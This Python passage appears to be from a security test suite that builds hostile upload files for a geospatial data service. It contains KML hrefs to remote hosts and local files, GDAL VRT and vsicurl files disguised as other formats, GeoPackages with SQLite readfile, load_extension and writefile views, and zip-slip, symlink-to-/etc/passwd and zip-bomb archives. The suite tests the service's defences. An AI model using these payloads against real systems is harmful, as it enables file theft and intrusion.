                f"xlsx_content_types_{name}",
                _xlsx_with(
                    {"[Content_Types].xml": inject(ctypes, prolog, "", None)}, bases.households_xlsx
                ),
                "h.xlsx",
                HH,
            )
        if strings is not None:
            b.add(
                cat,
                f"xlsx_shared_strings_{name}",
                _xlsx_with(
                    {
                        "xl/sharedStrings.xml": inject(
                            strings, prolog, ref, r"(<t[^>]*>)([^<]*)(</t>)"
                        )
                    },
                    bases.households_xlsx,
                ),
                "h.xlsx",
                HH,
            )


KML_HREF_ELEMENTS = {
    "network_link": "<NetworkLink><Link><href>{href}</href></Link></NetworkLink>",
    "ground_overlay": "<GroundOverlay><Icon><href>{href}</href></Icon><LatLonBox>"
    "<north>-1.2</north><south>-1.3</south><east>36.9</east><west>36.8</west>"
    "</LatLonBox></GroundOverlay>",
    "icon_style": '<Style id="s"><IconStyle><Icon><href>{href}</href></Icon></IconStyle></Style>'
    + placemark(),
    "model_link": "<Placemark><Model><Location><longitude>36.8</longitude>"
    "<latitude>-1.3</latitude></Location><Link><href>{href}</href></Link></Model></Placemark>",
    "screen_overlay": "<ScreenOverlay><Icon><href>{href}</href></Icon></ScreenOverlay>"
    + placemark(),
}


def _kml_hrefs(b: _Builder, canary: Path) -> None:
    cat = "kml_href"
    hrefs = {
        "http": f"http://{REMOTE}/x.kml",
        "file_canary": f"file://{canary}",
        "vsicurl": f"/vsicurl/http://{REMOTE}/x.kml",
    }
    for el, template in KML_HREF_ELEMENTS.items():
        for hname, href in hrefs.items():
            doc = kml_doc(template.format(href=href))
            b.add(cat, f"kml_{el}_{hname}", doc, "x.kml", SP)
            b.add(cat, f"kmz_{el}_{hname}", zip_bytes({"doc.kml": doc}), "x.kmz", SP)
    for hname, href in {
        "unc": f"\\\\{REMOTE}\\share\\x.kml",
        "bare_canary": str(canary),
        "relative_traversal": "../../../../../.." + str(canary),
    }.items():
        doc = kml_doc(KML_HREF_ELEMENTS["network_link"].format(href=href))
        b.add(cat, f"kmz_network_link_{hname}", zip_bytes({"doc.kml": doc}), "x.kmz", SP)


def _disguised(b: _Builder, bases: _Bases, canary: Path, tmp: Path) -> None:
    cat = "disguised"
    ogr_vrt = (
        f'<OGRVRTDataSource><OGRVRTLayer name="loot"><SrcDataSource>{canary}</SrcDataSource>'
        "</OGRVRTLayer></OGRVRTDataSource>"
    )
    raster_vrt = (
        '<VRTDataset rasterXSize="1" rasterYSize="1"><VRTRasterBand dataType="Byte" band="1">'
        f'<SimpleSource><SourceFilename relativeToVRT="0">{canary}</SourceFilename></SimpleSource>'
        "</VRTRasterBand></VRTDataset>"
    )
    curl_vrt = f'<OGRVRTDataSource><OGRVRTLayer name="r"><SrcDataSource>/vsicurl/http://{REMOTE}/x.csv</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
    spaced_vrt = (
        "\ufeff  <!-- x -->\n< ogr:OGRVRTDataSource >"
        f'<OGRVRTLayer name="l"><SrcDataSource>{canary}</SrcDataSource></OGRVRTLayer>'
        "</ ogr:OGRVRTDataSource>"
    )
    names = {
        "geojson": ("x.geojson", SP),
        "csv": ("h.csv", HH),
        "gpkg": ("x.gpkg", STRUCTURES),
        "kml": ("x.kml", SP),
        "tif": ("x.tif", FLOOD),
    }
    for vname, vrt in {
        "ogr_vrt": ogr_vrt,
        "raster_vrt": raster_vrt,
        "vsicurl_vrt": curl_vrt,
        "spaced_vrt": spaced_vrt,
    }.items():
        for ext, (filename, fields) in names.items():
            b.add(cat, f"{vname}_as_{ext}", vrt.encode(), filename, fields)
        b.add(cat, f"{vname}_in_kmz", zip_bytes({"doc.kml": vrt.encode()}), "x.kmz", SP)
        b.add(cat, f"{vname}_in_odk_zip", zip_bytes({"households.csv": vrt.encode()}), "x.zip", HH)
    for gname, alg in {
        "gdalg_read_canary": {
            "type": "gdal_streamed_alg",
            "command_line": f"gdal vector pipeline read {canary}",
        },
        "gdalg_vsicurl": {
            "type": "gdal_streamed_alg",
            "command_line": f"gdal raster pipeline read /vsicurl/http://{REMOTE}/x.tif",
        },
    }.items():
        for ext, (filename, fields) in names.items():
            if ext in ("csv", "tif", "kml"):
                b.add(cat, f"{gname}_as_{ext}", json.dumps(alg).encode(), filename, fields)
    # GeoPackages with views and triggers that read other files
    attacks = {
        "view_attached_table": "CREATE VIEW loot AS SELECT * FROM canary_db.secret",
        "view_readfile": f"CREATE VIEW loot AS SELECT readfile('{canary}') AS secret",
        "view_load_extension": f"CREATE VIEW loot AS SELECT load_extension('{canary}') AS secret",
        "trigger_attach": "CREATE TRIGGER t AFTER INSERT ON points BEGIN "
        f"SELECT load_extension('{canary}'); END",
        "view_fts3_tokenizer": "CREATE VIEW loot AS SELECT fts3_tokenizer('simple') AS secret",
        "view_edit_writefile": "CREATE VIEW loot AS "
        f"SELECT writefile('{tmp}/written.txt', 'x') AS secret",
    }
    for aname, sql in attacks.items():
        gpkg = tmp / f"{aname}.gpkg"
        gpkg.write_bytes(bases.tiny_gpkg.read_bytes())
        con = sqlite3.connect(gpkg)
        con.execute("PRAGMA writable_schema = ON")
        kind, objname = ("view", "loot") if sql.startswith("CREATE VIEW") else ("trigger", "t")
        con.execute(
            "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) "
            "VALUES (?, ?, ?, 0, ?)",
            (kind, objname, "loot" if kind == "view" else "points", sql),
        )
        con.commit()
        con.close()
        if kind == "view":
            con = sqlite3.connect(gpkg)
            try:
                con.execute(
                    "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
                    "VALUES ('loot', 'features', 'loot', 4326)"
                )
                con.execute(
                    "INSERT INTO gpkg_geometry_columns VALUES ('loot', 'geom', 'POINT', 4326, 0, 0)"
                )
                con.commit()
            except sqlite3.DatabaseError:
                pass
            con.close()
        b.add(cat, f"gpkg_{aname}", gpkg, "x.gpkg", STRUCTURES, touches=(str(tmp / "written.txt"),))
    attach = tmp / "attach.gpkg"
    attach.write_bytes(bases.tiny_gpkg.read_bytes())
    with sqlite3.connect(attach) as con:
        con.execute("CREATE TABLE settings (k text, v text)")
        con.execute(
            "INSERT INTO settings VALUES ('attach', ?)",
            (f"ATTACH DATABASE '{canary}' AS canary_db",),
        )
    con.close()
    b.add(cat, "gpkg_attach_statement_stored", attach, "x.gpkg", STRUCTURES, expect="may_accept")
    for label, app_id in {
        "mbtiles": 0x4D504258,
        "spatialite_named_gpkg": 0,
        "gpkg_wrong_app_id": 0x12345678,
    }.items():
        db = tmp / f"{label}.sqlite"
        with sqlite3.connect(db) as con:
            con.execute(f"PRAGMA application_id = {app_id}")
            con.execute("CREATE TABLE spatial_ref_sys (srid int, auth_name text)")
            con.execute("CREATE TABLE geometry_columns (f_table_name text)")
        con.close()
        for ext, (filename, fields) in {
            "gpkg": ("x.gpkg", STRUCTURES),
            "geojson": ("x.geojson", SP),
            "tif": ("x.tif", FLOOD),
        }.items():
            b.add(cat, f"{label}_as_{ext}", db, filename, fields)
    sqlite_header = bases.tiny_gpkg.read_bytes()
    b.add(
        cat,
        "gpkg_header_claims_huge_page_count",
        sqlite_header[:28] + b"\x7f\xff\xff\xff" + sqlite_header[32:],
        "x.gpkg",
        STRUCTURES,
    )
    b.add(cat, "gpkg_header_only", sqlite_header[:100], "x.gpkg", STRUCTURES)
    # GeoTIFFs that lie
    tiff = tmp / "lie.tif"
    with rasterio.open(
        tiff, "w", driver="GTiff", width=4, height=4, count=1, dtype="float32", crs="EPSG:32737",
        transform=from_origin(250_000, 9_860_000, 10, 10),
    ) as dst:  # fmt: skip
        dst.write(np.ones((1, 4, 4), "float32"))
        dst.update_tags(
            ns="xml:VRT",
            **{"vrt": f"<VRTDataset><SourceFilename>{canary}</SourceFilename></VRTDataset>"},
        )
        dst.update_tags(secret_path=str(canary))
    b.add(cat, "geotiff_with_vrt_metadata", tiff, "x.tif", FLOOD, expect="may_accept")
    good = tiff.read_bytes()
    b.add(cat, "tiff_magic_then_vrt", b"II*\x00" + raster_vrt.encode(), "x.tif", FLOOD)
    b.add(cat, "tiff_magic_then_garbage", b"MM\x00*" + bytes(range(256)) * 4, "x.tif", FLOOD)
    b.add(cat, "bigtiff_magic_only", b"II+\x00\x08\x00\x00\x00" + bytes(8), "x.tif", FLOOD)
    huge = bytearray(good)
    # 256 (ImageWidth) / 257 (ImageLength) as LONG: patch both to 2^31 - 1 wherever they sit
    for tag in (256, 257):
        for m in re.finditer(
            re.escape(tag.to_bytes(2, "little")) + b"(\x03\x00|\x04\x00)\x01\x00\x00\x00",
            bytes(huge),
        ):
            start = m.end()
            huge[m.start() + 2 : m.start() + 4] = b"\x04\x00"
            huge[start : start + 4] = (2**31 - 1).to_bytes(4, "little")
    b.add(cat, "geotiff_claims_2g_by_2g", bytes(huge), "x.tif", FLOOD)


def _archives(b: _Builder, bases: _Bases, canary: Path, out: Path) -> None:
    cat = "archive"
    with zipfile.ZipFile(io.BytesIO(bases.households_xlsx)) as zf:
        xlsx_members = {n: zf.read(n) for n in zf.namelist()}
    containers: dict[str, tuple[dict[str, bytes], str, str, dict[str, str]]] = {
        # members, key member, filename, fields
        "shapefile_zip": (bases.shapefile_members, "settlements.dbf", "s.zip", SETTLEMENTS),
        "kmz": ({"doc.kml": bases.kml}, "doc.kml", "x.kmz", SP),
        "odk_zip": (
            {"households.csv": bases.households_csv},
            "households.csv",
            "submissions.csv.zip",
            HH,
        ),
        "xlsx": (xlsx_members, "xl/worksheets/sheet1.xml", "h.xlsx", HH),
    }
    escape = out / "escaped_abs.txt"
    for cname, (members, key, filename, fields) in containers.items():
        without = [(k, v) for k, v in members.items() if k != key]
        variants: dict[str, bytes] = {
            "symlink_to_canary": zip_bytes([*without, (symlink_info(key), str(canary).encode())]),
            "symlink_to_passwd_extra": zip_bytes(
                [*members.items(), (symlink_info("extra.txt"), b"/etc/passwd")]
            ),
            "symlink_dir_then_file": zip_bytes(
                [
                    *members.items(),
                    (symlink_info("lnk"), b"/"),
                    ("lnk/tmp/hc_through_link.txt", b"x"),
                ]
            ),
            "absolute_path": zip_bytes([*members.items(), (str(escape), b"pwned")]),
            "dotdot": zip_bytes([*members.items(), ("../../hc_dotdot.txt", b"pwned")]),
            "dot_slash_dotdot": zip_bytes(
                [*members.items(), ("./a/../../hc_dotdot2.txt", b"pwned")]
            ),
            "backslash_dotdot": zip_bytes(
                [*members.items(), ("..\\..\\hc_backslash.txt", b"pwned")]
            ),
            "duplicate_member": zip_bytes(
                [*members.items(), (key, b"second copy " + members[key][:100])]
            ),
            "case_collision": zip_bytes([*members.items(), (key.upper(), members[key])]),
            "name_300_chars": zip_bytes([*members.items(), ("a" * 300 + ".txt", b"x")]),
            "name_20000_chars": zip_bytes([*members.items(), ("b/" * 10_000 + "x.txt", b"x")]),
            "nul_in_name": zip_bytes([*members.items(), ("evil\x00.txt", b"x")]),
            "bomb_over_ratio": zip_bytes(
                [*members.items(), ("padding.bin", bytes(20 * 1024 * 1024))]
            ),
            "nested_zip": zip_bytes({"inner.zip": zip_bytes(members)}),
            "nested_zip_20_levels": _nest(members, 20),
            "many_members_12000": zip_bytes(
                [*members.items(), *((f"m/{i}.txt", b"") for i in range(12_000))],
                zipfile.ZIP_STORED,
            ),
            "stored_bzip2": zip_bytes(members, zipfile.ZIP_BZIP2),
        }
        raw = zip_bytes(members)
        variants["encrypted_flag"] = _patch_flags(raw, 0x1)
        variants["crc_mismatch"] = _patch_crc(raw)
        variants["unknown_method_99"] = _patch_method(raw, 99)
        for vname, data in variants.items():
            expect = (
                "may_accept"
                if vname
                in {"stored_bzip2", "case_collision", "symlink_to_passwd_extra", "name_300_chars"}
                else "refused"
            )
            b.add(
                cat,
                f"{cname}_{vname}",
                data,
                filename,
                fields,
                expect=expect,
                touches=(str(escape), "/tmp/hc_through_link.txt"),
            )


def _nest(members: dict[str, bytes], levels: int) -> bytes:
    data = zip_bytes(members)
    for i in range(levels):
        data = zip_bytes({f"level{i}.zip": data})
    return data


def _patch_local_headers(raw: bytes, patch: Callable[[bytearray, int, bool], None]) -> bytes:
    out = bytearray(raw)
    for m in re.finditer(b"PK\x03\x04", raw):
        patch(out, m.start(), True)
    for m in re.finditer(b"PK\x01\x02", raw):
        patch(out, m.start(), False)
    return bytes(out)


def _patch_flags(raw: bytes, flag: int) -> bytes:
    def patch(out: bytearray, at: int, local: bool) -> None:
        off = at + (6 if local else 8)
        out[off] |= flag

    return _patch_local_headers(raw, patch)


def _patch_method(raw: bytes, method: int) -> bytes:
    def patch(out: bytearray, at: int, local: bool) -> None:
        off = at + (8 if local else 10)
        out[off : off + 2] = method.to_bytes(2, "little")

    return _patch_local_headers(raw, patch)


def _patch_crc(raw: bytes) -> bytes:
    def patch(out: bytearray, at: int, local: bool) -> None:
        off = at + (14 if local else 16)
        out[off] ^= 0xFF

    return _patch_local_headers(raw, patch)


def _damaged(b: _Builder, bases: _Bases) -> None:
    """Empty-ish, truncated, wrong extension, NUL bytes, invalid UTF-8, bit-flips."""
    shp_zip = zip_bytes(bases.shapefile_members)
    valid: dict[str, tuple[bytes, str, dict[str, str]]] = {
        "households_csv": (bases.households_csv, "h.csv", {**HH, "round": "hc-valid"}),
        "demo_households_csv": (bases.demo_csv, "households_kobo.csv", HH),
        "households_xlsx": (bases.households_xlsx, "h.xlsx", HH),
        "demo_households_xlsx": (bases.demo_xlsx, "households_kobo.xlsx", HH),
        "odk_zip": (bases.odk_zip, "submissions.csv.zip", HH),
        "settlements_geojson": (bases.settlements_geojson, "settlements.geojson", SETTLEMENTS),
        "service_points_geojson": (bases.service_points_geojson, "service_points.geojson", SP),
        "hazard_geojson": (bases.hazard_geojson, "flood_extent.geojson", HAZARD),
        "structures_gpkg": (bases.structures_gpkg, "structures.gpkg", STRUCTURES),
        "shapefile_zip": (shp_zip, "settlements.zip", SETTLEMENTS),
        "kml": (bases.kml, "points.kml", SP),
        "kmz": (bases.kmz, "points.kmz", SP),
        "flood_tif": (bases.flood_tif, "flood_depth.tif", FLOOD),
        "built_tif": (bases.built_tif, "built_up_epochs.tif", BUILT),
    }
    for vname, (data, filename, fields) in valid.items():
        for frac in (0.0, 0.1, 0.5, 0.99):
            cut = max(1, int(len(data) * frac))
            b.add("truncated", f"{vname}_at_{int(frac * 100)}pct", data[:cut], filename, fields)
    wrong = {
        "households_csv": "h.tif", "households_xlsx": "h.geojson", "settlements_geojson": "s.csv",
        "structures_gpkg": "s.kml", "shapefile_zip": "s.xlsx", "kmz": "p.zip",
        "flood_tif": "f.gpkg", "service_points_geojson": "p.exe", "kml": "p.geojson",
    }  # fmt: skip
    for vname, filename in wrong.items():
        data, _, fields = valid[vname]
        # the valid file under a wrong name: same content as stored (or valid) → may be accepted
        b.add(
            "wrong_extension", f"{vname}_as_{filename}", data, filename, fields, expect="may_accept"
        )
    # NUL bytes and invalid UTF-8 in every text container
    bad_bytes = {
        "nul": b"\x00",
        "nul_run": b"\x00" * 64,
        "invalid_ff": b"\xff\xfe",
        "overlong_slash": b"\xc0\xaf",
        "surrogate": b"\xed\xa0\x80",
        "truncated_multibyte": b"\xe2\x82",
    }
    header, rest = bases.households_csv.split(b"\r\n", 1)
    for bname, bad in bad_bytes.items():
        b.add(
            "bytes",
            f"csv_cell_{bname}",
            header + b"\r\n" + rest.replace(b"mtoni", b"mto" + bad + b"ni", 1),
            "h.csv",
            HH,
        )
        b.add(
            "bytes",
            f"csv_header_{bname}",
            header.replace(b"_uuid", b"_uu" + bad + b"id", 1) + b"\r\n" + rest,
            "h.csv",
            HH,
        )
        b.add(
            "bytes",
            f"geojson_property_{bname}",
            feature_collection([point_feature({"sp_id": "X"})]).replace(b'"X"', b'"X' + bad + b'"'),
            "p.geojson",
            SP,
        )
        b.add(
            "bytes",
            f"kml_name_{bname}",
            kml_doc(placemark("X")).replace(b">X<", b">X" + bad + b"<"),
            "p.kml",
            SP,
        )
        b.add(
            "bytes",
            f"odk_zip_cell_{bname}",
            zip_bytes(
                {
                    "households.csv": header
                    + b"\r\n"
                    + rest.replace(b"mtoni", b"mto" + bad + b"ni", 1)
                }
            ),
            "submissions.csv.zip",
            HH,
        )
    # random bit-flips of the valid files (seeded)
    for k, (vname, (data, filename, fields)) in enumerate(valid.items()):
        for seed, flips in ((1, 1), (2, 8), (3, 64), (4, 512)):
            flipped = flip_bits(data, seed * 1000 + k, flips)
            b.add(
                "bitflip",
                f"{vname}_seed{seed}_{flips}bits",
                flipped,
                filename,
                fields,
                expect="may_accept",
            )


def build_corpus(city: Path, canary: Path, out: Path, *, max_upload_bytes: int) -> list[Case]:
    """Every hostile case, built deterministically into ``out``.

    Parameters
    ----------
    city : Path
        The demo city's generated files (``geo_service.demo.run_demo``'s ``dest``).
    canary : Path
        The planted secret (see :func:`plant_canary`).
    out : Path
        An empty folder for big cases and scratch files.
    max_upload_bytes : int
        The server's upload limit (cases just under and just over it).
    """
    out.mkdir(parents=True, exist_ok=True)
    tmp = out / "scratch"
    tmp.mkdir()
    b = _Builder(out)
    with warnings.catch_warnings():
        # GDAL on the Shapefile's laundered names; zipfile on the duplicate members we want
        warnings.simplefilter("ignore")
        bases = _bases(city, tmp)
        _existing(b, bases, canary, tmp)
        _nesting(b)
        _huge_strings(b, bases, max_upload_bytes)
        _mixed_geometries(b)
        _crs(b, bases, canary, tmp)
        _formulas(b, bases, canary)
        _xml(b, bases, canary)
        _kml_hrefs(b, canary)
        _disguised(b, bases, canary, tmp)
        _archives(b, bases, canary, out)
        _damaged(b, bases)
    return b.cases
